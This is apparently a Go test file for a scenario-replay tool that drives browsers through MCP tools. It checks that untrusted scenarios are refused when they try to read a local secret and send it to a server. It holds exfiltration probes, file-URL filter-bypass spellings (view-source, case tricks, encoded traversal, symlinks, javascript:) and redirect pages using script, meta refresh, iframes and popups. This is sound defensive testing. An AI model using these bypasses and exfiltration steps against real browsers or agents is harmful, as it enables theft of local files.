package main

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// The probes of issue 23: a scenario, written by someone else and replayed
// with CI's rights, tries to read a local file and send it to a server.
// Each probe must be refused, through both browser servers, and the server
// must never receive the file.

// secretSetup is a folder the replay may open (allowed, holding the
// scenarios' local pages), a secret file outside it, and a server that
// records every query it is sent.
type secretSetup struct {
	allowed, secret, secretText string
	leak                        *httptest.Server
	mu                          sync.Mutex
	got                         []string
}

func newSecretSetup(t *testing.T) *secretSetup {
	t.Helper()
	s := &secretSetup{allowed: t.TempDir(), secretText: "TOPSECRET-" + filepath.Base(t.TempDir())}
	s.secret = filepath.Join(t.TempDir(), "secret.txt")
	if err := os.WriteFile(s.secret, []byte(s.secretText), 0o600); err != nil {
		t.Fatal(err)
	}
	s.leak = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.got = append(s.got, r.URL.RawQuery)
		s.mu.Unlock()
		fmt.Fprint(w, "<p>thanks</p>")
	}))
	t.Cleanup(s.leak.Close)
	return s
}

// page writes an HTML page into the allowed folder and returns its URL.
func (s *secretSetup) page(t *testing.T, name, html string) string {
	t.Helper()
	p := filepath.Join(s.allowed, name)
	if err := os.WriteFile(p, []byte(html), 0o644); err != nil {
		t.Fatal(err)
	}
	return "file://" + p
}

// stealer is a scenario that opens url, reads the page's text after the
// page had time to move on, and sends it to the leak server.
func (s *secretSetup) stealer(name, url string) string {
	return `{"version":"2.1","metadata":{"name":"` + name + `"},"steps":[
		{"step":1,"tool":"mcp__playwright__browser_navigate","params":{"url":"` + url + `"}},
		{"step":2,"id":"read","tool":"mcp__playwright__browser_evaluate","params":{"function":"() => new Promise(r => setTimeout(r, 700)).then(() => document.documentElement.innerText)"},"output":{"text":"$"}},
		{"step":3,"tool":"mcp__playwright__browser_navigate","params":{"url":"` + s.leak.URL + `/?d={{read.text}}"}}]}`
}

func (s *secretSetup) leaked() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, q := range s.got {
		if strings.Contains(q, "TOPSECRET") {
			return true
		}
	}
	return false
}

func (s *secretSetup) received(text string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, q := range s.got {
		if strings.Contains(q, text) {
			return true
		}
	}
	return false
}

func writeSuite(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// TestFileURLWrittenProbes: URLs written in a scenario are refused before
// anything runs, each named by its file and path, with no flag and with
// --allow-file-urls alike (none of them is a file inside the folder).
func TestFileURLWrittenProbes(t *testing.T) {
	s := newSecretSetup(t)
	if err := os.Symlink(filepath.Dir(s.secret), filepath.Join(s.allowed, "link")); err != nil {
		t.Fatal(err)
	}
	probes := map[string]string{
		"view-source":       "view-source:file://" + s.secret,
		"view-source-upper": "VIEW-SOURCE:FILE://" + s.secret,
		"file":              "file://" + s.secret,
		"file-upper":        "FiLe://" + s.secret,
		"file-tab":          "fi\\tle://" + s.secret,
		"file-space":        "  file://" + s.secret,
		"file-backslash":    `file:\\\\` + strings.ReplaceAll(s.secret, "/", `\\`),
		"dotdot":            "file://" + s.allowed + "/%2e%2e/%2e%2e" + s.secret,
		"symlink":           "file://" + s.allowed + "/link/secret.txt",
		"javascript":        "javascript:location='file://" + s.secret + "'",
		"chrome":            "chrome://version",
		"devtools":          "devtools://devtools/bundled/inspector.html",
		"filesystem":        "filesystem:file:///temporary/x",
	}
	files := map[string]string{}
	for name, url := range probes {
		files[name+".json"] = s.stealer(name, url)
	}
	suite := writeSuite(t, files)
	cfg := writeTemp(t, "mcp.json", `{"mcpServers": {}}`)
	for _, flags := range [][]string{nil, {"--allow-file-urls=" + s.allowed}} {
		args := append([]string{"replay", suite, "--config", cfg}, flags...)
		code, stdout, stderr := runCLI(t, args...)
		if code != exitInput {
			t.Fatalf("%v: exit %d, want 2\n%s\n%s", flags, code, stdout, stderr)
		}
		for name := range probes {
			if want := name + ".json: steps[0].params.url: plaintest refused"; !strings.Contains(stderr, want) {
				t.Errorf("%v: stderr lacks %q:\n%s", flags, want, stderr)
			}
		}
		if stdout != "" {
			t.Errorf("%v: something ran:\n%s", flags, stdout)
		}
	}
	// validate says the same.
	if code, stdout, _ := runCLI(t, "validate", suite); code != exitInput || !strings.Contains(stdout, "view-source.json: steps[0].params.url: plaintest refused") {
		t.Errorf("validate: exit %d, want 2 naming the URL:\n%s", code, stdout)
	}
	if s.leaked() {
		t.Error("the secret reached the leak server")
	}
}

// TestFileURLVarProbe: a URL that only its variable makes a file is refused
// at its step, before the browser is asked, and the run ends there.
func TestFileURLVarProbe(t *testing.T) {
	requireBrowser(t)
	s := newSecretSetup(t)
	file := writeTemp(t, "var.json", s.stealer("var", "{{TARGET}}"))
	cfg := writeTemp(t, "mcp.json", `{"mcpServers": {}}`)
	// (Other spellings are refused by the same rule: internal/navrule's tests.)
	for _, target := range []string{"view-source:file://" + s.secret} {
		code, stdout, stderr := runCLI(t, "replay", file, "--config", cfg, "--var", "TARGET="+target, "--report", t.TempDir())
		if code != exitInput || !strings.Contains(stdout+stderr, "URL argument url: plaintest refused") {
			t.Errorf("TARGET=%q: exit %d, want 2 refusing step 1's URL\n%s\n%s", target, code, stdout, stderr)
		}
	}
	if s.leaked() {
		t.Error("the secret reached the leak server")
	}
}

// TestFileURLGuard: a local page the replay may open moves, by itself, to
// a file it may not (a script, a meta refresh, an iframe, a popup, a
// link's view-source). Both browser servers close the page and fail the
// step with the refusal; the secret never leaves. A page that stays where
// it is may be read and sent: the leak server would have seen a leak.
func TestFileURLGuard(t *testing.T) {
	requireBrowser(t)
	t.Parallel() // see parallelNote
	s := newSecretSetup(t)
	secretURL := "file://" + s.secret
	files := map[string]string{
		"script.json":  s.stealer("script", s.page(t, "script.html", `<p>start</p><script>setTimeout(() => location.href = "`+secretURL+`", 100)</script>`)),
		"refresh.json": s.stealer("refresh", s.page(t, "refresh.html", `<meta http-equiv="refresh" content="0; url=`+secretURL+`"><p>start</p>`)),
		"iframe.json":  s.stealer("iframe", s.page(t, "iframe.html", `<p>start</p><iframe src="`+secretURL+`"></iframe>`)),
		"popup.json":   s.stealer("popup", s.page(t, "popup.html", `<p>start</p><script>window.open("`+secretURL+`")</script>`)),
		"stays.json":   s.stealer("stays", s.page(t, "stays.html", `<p>harmless-local-text</p>`)),
	}
	suite := writeSuite(t, files)
	cfg := writeTemp(t, "mcp.json", `{"mcpServers": {}}`)
	for _, server := range []string{mcpBuiltin, mcpPlaywright} {
		t.Run(server, func(t *testing.T) {
			code, stdout, stderr := runCLI(t, "replay", suite, "--config", cfg, "--mcp", server,
				"--allow-file-urls="+s.allowed, "--parallel", "3", "--report", t.TempDir())
			if code == 0 {
				t.Fatalf("exit 0: the escapes passed\n%s\n%s", stdout, stderr)
			}
			out := stdout + stderr
			for _, name := range []string{"script", "refresh", "iframe", "popup"} {
				if !strings.Contains(out, name+".json") {
					t.Errorf("the output does not name %s.json", name)
				}
			}
			if n := strings.Count(out, "plaintest refused"); n < 4 {
				t.Errorf("%d refusals reported, want one for each of 4 escapes:\n%s", n, out)
			}
			if !s.received("harmless-local-text") {
				t.Errorf("the page that stays in the folder was not read and sent: the probe proves nothing\n%s", out)
			}
			if s.leaked() {
				t.Errorf("the secret reached the leak server:\n%s", out)
			}
		})
	}
}
